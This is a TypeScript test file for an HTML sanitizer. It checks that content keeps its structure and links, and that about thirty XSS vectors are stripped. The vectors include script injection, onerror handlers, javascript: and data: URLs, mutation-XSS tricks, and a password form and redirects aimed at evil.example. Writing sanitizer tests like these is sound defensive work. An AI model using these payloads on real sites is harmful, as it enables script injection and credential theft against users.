import fc from 'fast-check'
import { type DefaultTreeAdapterMap, parseFragment } from 'parse5'
import { describe, expect, it } from 'vitest'
import { bodyOf } from './body.ts'
import { cleanBody } from './clean-body.ts'

/** Every element and attribute that a browser would make of it. */
function seenIn(html: string): string[] {
  const walk = (node: DefaultTreeAdapterMap['node']): string[] => [
    ...('tagName' in node ? [node.tagName, ...node.attrs.map(({ name, value }) => `${node.tagName}@${name}=${value}`)] : []),
    ...('childNodes' in node ? node.childNodes.flatMap(walk) : []),
    ...('content' in node ? walk(node.content) : []),
  ]
  return walk(parseFragment(html)).filter(name => !name.startsWith('#'))
}

const harmless =
  /^(p|div|br|hr|h[234]|blockquote|ul|ol|li|strong|em|u|sub|sup|a|table|caption|thead|tbody|tfoot|tr|th|td)$|^t[hd]@(col|row)span=\d+$|^th@scope=(col|row)(group)?$|^a@rel=noopener noreferrer$|^a@href=(?!\s*(javascript|vbscript|data|file):)/i

describe('what comes from outside', () => {
  it('keeps its structure, tables and links', () => {
    const html =
      '<h2>一、总则</h2><p>依照<strong>法律</strong>\u2026</p><ul><li>甲</li></ul><table><caption>表</caption><tr><th colspan="2" scope="col">项</th></tr><tr><td>1</td><td>2</td></tr></table>'
    expect(cleanBody(html)).toBe(html)
    expect(cleanBody('<a href="https://www.gov.cn/" target="_blank" onclick="x()">国务院</a>')).toBe(
      '<a href="https://www.gov.cn/" rel="noopener noreferrer">国务院</a>',
    )
  })

  it('loses style, classes, ids, events and comments, and keeps its words', () => {
    expect(
      cleanBody('<p style="position:fixed" class="x" id="y" onmouseover="z()" data-a="b">文<!-- c --><span lang="en">字</span></p>'),
    ).toBe('<p>文字</p>')
  })

  it('has no heading above that of the page', () => {
    expect(cleanBody('<h1>大</h1><h6>小</h6><b>粗</b><i>斜</i>')).toBe('<h2>大</h2><h4>小</h4><strong>粗</strong><em>斜</em>')
  })

  it('is left alone when our own editor made it', () => {
    const own = bodyOf(['a < b & c', '“引号” "quoted"'])
    expect(seenIn(cleanBody(own))).toEqual(['p', 'p'])
    expect(parseFragment(cleanBody(own)).childNodes).toHaveLength(parseFragment(own).childNodes.length)
  })
})

const vectors = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=x><style>*{background:url(x)}</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<p/onclick=alert(1)//>x',
  '<td colspan="1 onclick=x" rowspan="99999">x</td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

describe('what could run or reach out', () => {
  it.each(vectors)('is gone: %s', vector => {
    const clean = cleanBody(`<p>前</p>${vector}<p>后</p>`)
    expect(seenIn(clean).filter(name => !harmless.test(name))).toEqual([])
    expect(clean).not.toContain('href="//')
    expect(cleanBody(clean)).toBe(clean)
  })

  it('however the pieces are put together; and what is clean stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(...vectors),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<table><tr><td>',
        '</table>',
        '<',
        '>',
        '"',
        "'",
        '&lt;',
        '&amp;lt;',
        '<!--',
        '-->',
        '\0',
        '<b>',
        '<a href="',
        '</a>',
      ),
      fc.string({ maxLength: 20 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), pieces => {
        const clean = cleanBody(pieces.join(''))
        expect(seenIn(clean).filter(name => !harmless.test(name))).toEqual([])
        expect(cleanBody(clean)).toBe(clean)
      }),
      { numRuns: 1_000 },
    )
  })

  it('nor does depth exhaust anything', () => {
    expect(seenIn(cleanBody('<div>'.repeat(5_000))).length).toBeLessThan(100)
  })
})
